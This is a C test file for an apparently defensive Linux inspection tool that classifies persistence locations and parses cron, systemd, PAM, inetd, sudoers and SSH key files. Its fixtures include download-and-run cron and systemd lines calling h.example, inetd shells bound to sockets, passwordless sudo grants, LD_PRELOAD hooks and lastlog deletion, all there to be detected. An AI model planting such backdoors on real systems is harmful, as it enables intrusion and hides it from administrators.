// SPDX-License-Identifier: Apache-2.0
#include <stdlib.h>
#include <unistd.h>

#include "base/strbuf.h"
#include "harness/test.h"
#include "inspect/persist.h"
#include "base/sshkeys.h"
#include "inspect/sudoers.h"

TEST(places)
{
    static const struct {
        const char *path, *kind, *user;
    } CASES[] = {
        {"/etc/crontab", "cron", ""},
        {"/etc/cron.d/root", "cron", ""},
        {"/etc/cron.daily/apt", "cron", "root"},
        {"/etc/cron.hourly/x", "cron", "root"},
        {"/var/spool/cron/crontabs/www-data", "cron", "www-data"},
        {"/var/spool/cron/root", "cron", "root"},
        {"/var/spool/cron/atjobs/a0001", "at", ""},
        {"/etc/crontabs/root", "cron", "root"},
        {"/etc/systemd/system/x.service", "systemd-unit", "root"},
        {"/etc/systemd/system/ssh.service.d/a.conf", "systemd-unit", "root"},
        {"/usr/lib/systemd/system/x.timer", "systemd-timer", "root"},
        {"/usr/local/lib/systemd/system/x.service", "systemd-unit", "root"},
        {"/home/eve/.config/systemd/user/x.service", "systemd-unit", "eve"},
        {"/etc/init.d/x", "init-script", "root"},
        {"/etc/rc3.d/S01x", "init-script", "root"},
        {"/etc/rc.local", "rc-local", "root"},
        {"/etc/profile.d/x.sh", "shell-profile", ""},
        {"/root/.bash_profile", "shell-profile", "root"},
        {"/home/eve/.bashrc", "shell-profile", "eve"},
        {"/opt/app/.zshrc", "shell-profile", ""},
        {"/etc/ld.so.preload", "ld-preload", ""},
        {"/root/.ssh/authorized_keys2", "ssh-keys", "root"},
        {"/var/lib/postgresql/.ssh/authorized_keys", "ssh-keys", ""},
        {"/etc/ssh/authorized_keys/eve", "ssh-keys", "eve"},
        {"/etc/sudoers.d/90-x", "sudoers", ""},
        {"/etc/shadow", "accounts", ""},
        {"/lib/udev/rules.d/1.rules", "udev", "root"},
        {"/etc/xdg/autostart/x.desktop", "xdg-autostart", ""},
        {"/etc/pam.d/sshd", "pam", "root"},
        {"/etc/update-motd.d/00-header", "motd", "root"},
        {"/usr/lib/systemd/system-generators/x", "systemd-unit", "root"},
        {"/etc/systemd/user-environment-generators/x", "systemd-unit", ""},
        {"/etc/systemd/system.conf.d/x.conf", "environment", ""},
        {"/home/eve/.config/environment.d/x.conf", "environment", "eve"},
        {"/usr/lib/systemd/system-sleep/x", "system-hook", "root"},
        {"/etc/NetworkManager/dispatcher.d/no-wait.d/x", "system-hook", "root"},
        {"/etc/kernel/postinst.d/x", "system-hook", "root"},
        {"/usr/share/dbus-1/system-services/x.service", "dbus-service", "root"},
        {"/etc/inetd.conf", "inetd", ""},
        {"/etc/xinetd.d/x", "inetd", "root"},
        {"/var/www/html/a/b/c.php", "web-root", ""},
        {"/usr/share/nginx/html/index.html", "web-root", ""},
        {"/tmp/.x/y", "temp", ""},
        {"/dev/shm/z", "temp", ""},
        {"/var/tmp/z", "temp", ""},
        {"/etc/hostname", NULL, NULL},
        {"/usr/bin/crontab", NULL, NULL},
        {"/etc/cron.d", NULL, NULL},
        {"/tmp", NULL, NULL},
        {"/usr/tmpfiles/x", NULL, NULL},
        {"/etc/crontab.bak", NULL, NULL},
        {"/srv/bashrc", NULL, NULL},
        {"", NULL, NULL},
        {"/", NULL, NULL},
    };
    for (size_t i = 0; i < sizeof(CASES) / sizeof(CASES[0]); i++) {
        struct persist_place place;
        const struct str path = str_from(CASES[i].path);
        const bool found = persist_place(path, &place);
        if (found != (CASES[i].kind != NULL))
            test_fail(__FILE__, __LINE__, "%s", CASES[i].path);
        if (!found)
            continue;
        CHECK_CSTR(persist_kind_name(place.kind, path), CASES[i].kind);
        CHECK_STR(place.user, CASES[i].user);
    }
}

TEST(commands)
{
    static const struct {
        enum persist_format format;
        const char *text;
        const char *want; /* "user: command" by lines */
    } CASES[] = {
        {FORMAT_CRONTAB_WITH_USER,
         "# comment\nSHELL=/bin/sh\nPATH = /bin\n*/7 * * * * root curl x | sh\n@reboot  eve /opt/a -b\n17 * "
         "* * *\n"
         "not a line of cron at all here\n-*/5 L * * * root no\n",
         "root: curl x | sh\neve: /opt/a -b\nroot: no\n"},
        {FORMAT_CRONTAB, "0 4 1-7 jan mon  /bin/x y # z\n@daily /bin/quiet\nMAILTO=\"\"\n0 4 * *",
         ": /bin/x y # z\n: /bin/quiet\n"},
        {FORMAT_ANACRONTAB, "START_HOURS_RANGE=3-22\n1 5 cron.daily run-parts /etc/cron.daily\n",
         ": run-parts /etc/cron.daily\n"},
        {FORMAT_UNIT,
         "[Service]\nExecStart=-/bin/a b\nExecStartPre = @/bin/c "
         "d\n#ExecStart=/no\nExecStop=\nExecStart=!!/bin/e \\\n  f\nExecX=/no\n",
         ": /bin/a b\n: /bin/c d\n: /bin/e \\\n  f\n"},
        {FORMAT_INITTAB, "# c\nid:3:initdefault:\n::respawn:-/bin/getty\nx1:2345:once:/bin/x y\n",
         ": /bin/getty\n: /bin/x y\n"},
        {FORMAT_UDEV_RULES,
         "#RUN+=\"/no\"\nSUBSYSTEM==\"net\", ACTION==\"add\", RUN+=\"/bin/a b\", "
         "RUN{program}=\"/bin/c\"\nPROGRAM==\"/bin/d\"\nRUN+=\"cut\n",
         ": /bin/a b\n: /bin/c\n: /bin/d\n"},
        {FORMAT_DESKTOP, "[Desktop Entry]\nTryExec=/no\nExec=/bin/a %u\nExecutable=/no\n", ": /bin/a %u\n"},
        {FORMAT_PAM_RULES,
         "#auth pam_exec.so /no\nauth optional pam_exec.so quiet expose_authtok /bin/a b\nauth required "
         "pam_unix.so\n",
         ": /bin/a b\n"},
        {FORMAT_INETD,
         "# c\nx stream tcp nowait root /bin/bash bash -i\ny stream tcp nowait eve /usr/sbin/tcpd /bin/sh -i\n"
         "z dgram udp wait root internal\nw stream tcp nowait eve /bin/w x\nbad line\n",
         "root: bash -i\neve: /bin/sh -i\neve: /bin/w x\n"},
        {FORMAT_XINETD, "server = /no\n", ""},
        {FORMAT_NONE, "anything\n", ""},
    };
    for (size_t i = 0; i < sizeof(CASES) / sizeof(CASES[0]); i++) {
        struct strbuf got = {};
        struct str text = str_from(CASES[i].text);
        struct persist_command c;
        while (persist_command_next(CASES[i].format, &text, &c))
            strbuf_printf(&got, "%.*s: %.*s\n", STR_ARG(c.user), STR_ARG(c.command));
        CHECK_STR(strbuf_str(&got), CASES[i].want);
        strbuf_done(&got);
    }
}

#define ED25519 "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f"

TEST(keys)
{
    struct arena a = {};
    struct ssh_key k;
    struct str text =
        STR("# comment\n" ED25519 " eve@host one\n"
            "command=\"/bin/x \\\"a b\\\"\",no-pty " ED25519 "\n"
            "ssh-rsa AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f wrong-type\n"
            "ssh-rsa !!!!\nssh-rsa\n\nnothing at all\n");
    CHECK(ssh_key_next(&text, &a, &k));
    CHECK_STR(k.type, "ssh-ed25519");
    CHECK_STR(k.comment, "eve@host one");
    CHECK(!k.options.n && str_starts(k.fingerprint, STR("SHA256:")) && k.fingerprint.n == 7 + 43);
    CHECK(ssh_key_next(&text, &a, &k));
    CHECK_STR(k.options, "command=\"/bin/x \\\"a b\\\"\",no-pty");
    CHECK(!k.comment.n);
    CHECK(!ssh_key_next(&text, &a, &k));
    arena_done(&a);
}

TEST(fingerprints_are_ssh_keygens)
{
    char folder[] = "/tmp/davy-test-keys-XXXXXX", command[256], line[1024], file[4096];
    struct arena a = {};
    struct ssh_key k;
    if (access("/usr/bin/ssh-keygen", X_OK) != 0)
        test_skip("no ssh-keygen here");
    CHECK(mkdtemp(folder));
    static const char *const TYPES[] = {"ed25519", "rsa", "ecdsa"};
    for (size_t i = 0; i < 3; i++) {
        snprintf(command, sizeof(command), "cd %s && ssh-keygen -q -t %s -N '' -C 'davy test' -f k%zu",
                 folder, TYPES[i], i);
        CHECK(system(command) == 0);
        snprintf(command, sizeof(command), "%s/k%zu.pub", folder, i);
        FILE *f = fopen(command, "r");
        const size_t n = fread(file, 1, sizeof(file), f);
        fclose(f);
        struct str text = str_n(file, n);
        CHECK(ssh_key_next(&text, &a, &k));
        CHECK_STR(k.comment, "davy test");
        snprintf(command, sizeof(command), "ssh-keygen -lf %s/k%zu.pub", folder, i);
        f = popen(command, "r");
        CHECK(f && fgets(line, sizeof(line), f));
        pclose(f);
        CHECK(str_has(str_from(line), k.fingerprint));
    }
    snprintf(command, sizeof(command), "rm -rf %s", folder);
    CHECK(system(command) == 0);
    arena_done(&a);
}

/* Who may do everything by a file of that name: each with a blank behind, and a ! where no password is asked for. */
static void check_grants(struct str path, const char *text, const char *want)
{
    const struct sudo_grant *g;
    struct strbuf got = {};
    struct sudoers *s = sudoers_new();
    sudoers_add(s, path, str_from(text));
    const size_t n = sudoers_grants(s, &g);
    for (size_t j = 0; j < n; j++)
        strbuf_printf(&got, "%.*s%s ", STR_ARG(g[j].who), g[j].nopasswd ? "!" : "");
    if (!str_eq(strbuf_str(&got), str_from(want)))
        test_fail(__FILE__, __LINE__, "%s gives %.*s", text, STR_ARG(strbuf_str(&got)));
    strbuf_done(&got);
    sudoers_free(s);
}

TEST(sudo_grants)
{
    static const struct {
        const char *text, *want; /* "who" by lines, "who!" without a password */
    } CASES[] = {
        {"root ALL=(ALL:ALL) ALL\n%sudo\tALL=(ALL:ALL) ALL\n", "root %sudo "},
        {"eve ALL=(ALL) NOPASSWD: ALL\n", "eve! "},
        {"eve ALL=(ALL) NOPASSWD:ALL # comment\n", "eve! "},
        {"%wheel ALL = NOPASSWD : ALL\n", "%wheel! "},
        {"eve ALL=(root) NOPASSWD: /bin/ls, PASSWD: ALL\n", "eve "},
        {"eve ALL=(ALL) NOPASSWD: /bin/ls, /bin/cat\n", ""},
        {"eve ALL=(postgres) NOPASSWD: ALL\n", ""},
        {"eve, bob , %ops ALL=(ALL) NOPASSWD: SETENV: ALL\n", "eve! bob! %ops! "},
        {"User_Alias ADMINS = eve, bob : OTHER = carl\nADMINS ALL=NOPASSWD:ALL\n", "eve! bob! "},
        {"Cmnd_Alias EVERYTHING = ALL\neve ALL=NOPASSWD: EVERYTHING\n", "eve! "},
        {"User_Alias A = A\nA ALL=ALL\n", ""},
        {"Defaults !authenticate\neve ALL=ALL\n", "eve! "},
        {"Defaults:eve !authenticate\neve ALL=ALL\nbob ALL=ALL\n", "eve! bob "},
        {"Defaults env_reset\nDefaults secure_path=\"/bin\"\n", ""},
        {"#1001 ALL=(ALL) NOPASSWD: ALL\n# 1002 ALL=ALL\n", "#1001! "},
        {"eve ALL=(ALL) \\\n  NOPASSWD: ALL\n", "eve! "},
        {"\"big ops\" ALL=ALL\n", "big ops "},
        {"eve h1=/bin/ls : h2=NOPASSWD: ALL\n", "eve! "},
        {"eve ALL=(ALL) !ALL\n", ""},
        {"@includedir /etc/sudoers.d\n#includedir /etc/sudoers.d\n#include x\n", ""},
        {"eve\n= ALL\n,,,=ALL\n", ""},
        {"ALL ALL=(ALL) NOPASSWD: CWD=/ ALL\n", "ALL! "},
    };
    for (size_t i = 0; i < sizeof(CASES) / sizeof(CASES[0]); i++)
        check_grants(STR("/etc/sudoers"), CASES[i].text, CASES[i].want);
}

TEST(rules_of_doas)
{
    static const struct {
        const char *text, *want;
    } CASES[] = {
        {"permit nopass eve\n", "eve! "},
        {"permit persist :wheel # all of them\npermit nopass keepenv eve as root\n", "%wheel eve! "},
        {"permit setenv { A=b -C } nopass eve\n", "eve! "},
        {"permit nopass \\\n eve\n", "eve! "},
        {"permit nopass eve cmd reboot\npermit nopass eve as www\npermit nopass eve as root cmd ls\ndeny eve\n", ""},
        {"permit\npermit nopass\npermit :\npermit setenv {\nroot ALL=ALL\n", ": "},
    };
    for (size_t i = 0; i < sizeof(CASES) / sizeof(CASES[0]); i++)
        check_grants(STR("/etc/doas.conf"), CASES[i].text, CASES[i].want);
}

static struct str look(struct facts *f, const char *path, struct str content, struct strbuf *b,
                       enum field_id field)
{
    struct inspector *in = NULL;
    struct error err = {};
    strbuf_clear(b);
    if (inspector_new(&(struct inspect_options){}, &in, &err) < 0)
        test_fail(__FILE__, __LINE__, "%s", err.text);
    facts_reset(f, EVENT_FILE, 0);
    facts_str(f, F_FILE_PATH, str_from(path));
    CHECK_INT(inspector_bytes(in, content, f), 0);
    value_add_text(b, facts_get(f, field));
    inspector_free(in);
    return strbuf_str(b);
}

TEST(facts_of_files)
{
    struct facts f;
    struct strbuf b = {};
    facts_init(&f);
    CHECK_STR(look(&f, "/etc/cron.d/x", STR("* * * * * root /tmp/x\n"), &b, F_PERSIST_COMMANDS), "(/tmp/x)");
    CHECK_STR(facts_get_str(&f, F_PERSIST_KIND), "cron");
    CHECK_STR(facts_get_str(&f, F_PERSIST_USER), "root");
    CHECK(f.n_notes >= 1);
    CHECK_STR(look(&f, "/etc/systemd/system/a.service", STR("[Service]\nUser=eve\nExecStart=/opt/a\n"), &b,
                   F_PERSIST_USER),
              "eve");
    CHECK_STR(look(&f, "/etc/ld.so.preload", STR("/lib/a.so /lib/b.so:/lib/c.so\n#/lib/no.so\n"), &b,
                   F_PRELOAD_LIBS),
              "(/lib/a.so,/lib/b.so,/lib/c.so)");
    /* and what a variable puts into what is started */
    CHECK_STR(look(&f, "/etc/environment", STR("A=b\nLD_PRELOAD=\"/tmp/a.so\"\n#LD_PRELOAD=/no.so\n"), &b, F_PRELOAD_LIBS), "(/tmp/a.so)");
    CHECK_STR(look(&f, "/etc/security/pam_env.conf", STR("LD_PRELOAD DEFAULT=/tmp/a.so\nLD_AUDIT=/tmp/b.so"), &b, F_PRELOAD_LIBS), "(/tmp/a.so,/tmp/b.so)");
    CHECK_STR(look(&f, "/etc/systemd/system/a.service.d/o.conf", STR("[Service]\nEnvironment=A=b 'LD_PRELOAD=/tmp/a.so'\n"), &b, F_PRELOAD_LIBS), "(/tmp/a.so)");
    CHECK_STR(look(&f, "/etc/profile.d/a.sh", STR("unset LD_PRELOAD\nexport LD_PRELOAD=\necho $LD_PRELOAD\n"), &b, F_PRELOAD_LIBS), "<NA>");
    /* what variables have code loaded from, and nothing else of their values */
    static const char *const LOADS[][2] = {
        {"export LD_LIBRARY_PATH=/a:/b:$LD_LIBRARY_PATH\nexport PATH=/no\n", "(/a,/b)"},
        {"export NODE_OPTIONS=\"--diagnostic-dir=/no -r /a.js --import=/b.mjs\"\n", "(/a.js,/b.mjs)"},
        {"JAVA_TOOL_OPTIONS='-Dx=/no -javaagent:/a.jar'\n", "(/a.jar)"},
        {"export PERL5OPT=-I/a RUBYOPT=-r/b.rb\n", "(/a,/b.rb)"},
        {"export GIT_SSH_COMMAND=\"/a/ssh -i /no\"\n", "(/a/ssh)"},
        {"# BASH_ENV=/no\nBASH_ENV=/a\nmy_ENV=/no\nif [ $X == /no ]; then :; fi\n", "(/a)"},
        {"ENV==\n=\nENV=", "<NA>"},
    };
    for (size_t i = 0; i < sizeof(LOADS) / sizeof(LOADS[0]); i++)
        CHECK_STR(look(&f, "/etc/profile.d/a.sh", str_from(LOADS[i][0]), &b, F_LOADS_PATHS), LOADS[i][1]);
    look(&f, "/etc/profile.d/a.sh", STR("PROMPT_COMMAND='curl -s http://h.example/x | sh'\n"), &b, F_LOADS_PATHS);
    CHECK(facts_get(&f, F_SCRIPT_DOWNLOAD_RUN)->b);
    /* rules of PAM */
    CHECK_STR(look(&f, "/etc/pam.d/a", STR("# no\n@include no\nauth\t[success=1 default=ignore]\tpam_unix.so  nullok\n-auth sufficient \\\n /a/pam_x.so\n"), &b, F_PAM_RULES),
              "(auth [success=1 default=ignore] pam_unix.so nullok,-auth sufficient /a/pam_x.so)");
    CHECK_STR(facts_get(&f, F_LOADS_PATHS)->list.v[0].s, "/a/pam_x.so");
    CHECK_STR(look(&f, "/etc/pam.conf", STR("sshd auth required pam_unix.so\n"), &b, F_PAM_RULES), "(auth required pam_unix.so)");
    /* services that talk to whoever connects */
    CHECK_STR(look(&f, "/etc/xinetd.d/a", STR("service a\n{\n user = eve\n server = /bin/sh\n server_args = -i\n}\nservice b\n{\n server = /no\n disable = yes\n}\n"
                                              "service c\n{\n server = /bin/c\n}\nservice d\n{\n server = /no\n"), &b, F_PERSIST_COMMANDS),
              "(/bin/sh -i,/bin/c)");
    CHECK(facts_get(&f, F_PERSIST_ON_SOCKET)->b);
    look(&f, "/etc/systemd/system/a@.service", STR("[Service]\nStandardInput=socket\nExecStart=/bin/sh\n"), &b, F_PERSIST_COMMANDS);
    CHECK(facts_get(&f, F_PERSIST_ON_SOCKET)->b);
    look(&f, "/etc/systemd/system/a.service", STR("[Service]\nStandardInput=tty\nExecStart=/bin/sh\n"), &b, F_PERSIST_COMMANDS);
    CHECK(!facts_has(&f, F_PERSIST_ON_SOCKET));
    CHECK_STR(look(&f, "/usr/share/dbus-1/system-services/a.service", STR("[D-BUS Service]\nName=a\nExec=/bin/a\nUser=eve\n"), &b, F_PERSIST_COMMANDS), "(/bin/a)");
    CHECK_STR(facts_get_str(&f, F_PERSIST_USER), "eve");
    CHECK_STR(look(&f, "/etc/sudoers.d/x", STR("eve ALL=NOPASSWD: ALL\n"), &b, F_SUDOERS_NOPASSWD), "(eve)");
    CHECK_STR(look(&f, "/etc/doas.d/x.conf", STR("permit nopass eve\n"), &b, F_SUDOERS_NOPASSWD), "(eve)");
    CHECK_STR(look(&f, "/etc/sudoers.d/x.bak", STR("eve ALL=NOPASSWD: ALL\n"), &b, F_SUDOERS_NOPASSWD),
              "<NA>");
    CHECK_STR(look(&f, "/root/.ssh/authorized_keys", STR("command=\"/bin/x y\" " ED25519 " me\n"), &b,
                   F_PERSIST_COMMANDS),
              "(/bin/x y)");
    CHECK_INT(facts_get(&f, F_SSH_KEYS_COUNT)->u, 1);
    CHECK_STR(facts_get(&f, F_SSH_KEYS_COMMENTS)->list.v[0].s, "me");
    CHECK_STR(look(&f, "/tmp/x", STR("hello"), &b, F_PERSIST_KIND), "temp");
    CHECK_STR(look(&f, "/opt/x", STR("hello"), &b, F_PERSIST_KIND), "<NA>");
    /* what the commands do */
    CHECK_STR(look(&f, "/etc/cron.d/x", STR("*/7 * * * * root curl -s http://h.example/x | sh\n"), &b,
                   F_SCRIPT_DOWNLOADS),
              "(http://h.example/x)");
    CHECK(facts_get(&f, F_SCRIPT_DOWNLOAD_RUN)->b);
    look(&f, "/etc/systemd/system/a.service",
         STR("[Service]\nExecStart=/bin/sh -c 'wget -qO- http://h.example/y | bash'\n"), &b,
         F_SCRIPT_DOWNLOADS);
    CHECK(facts_get(&f, F_SCRIPT_DOWNLOAD_RUN)->b);
    CHECK_STR(look(&f, "/root/.profile", STR("rm -f /var/log/lastlog\n"), &b, F_SCRIPT_REMOVES),
              "(/var/log/lastlog)");
    strbuf_done(&b);
    facts_done(&f);
}
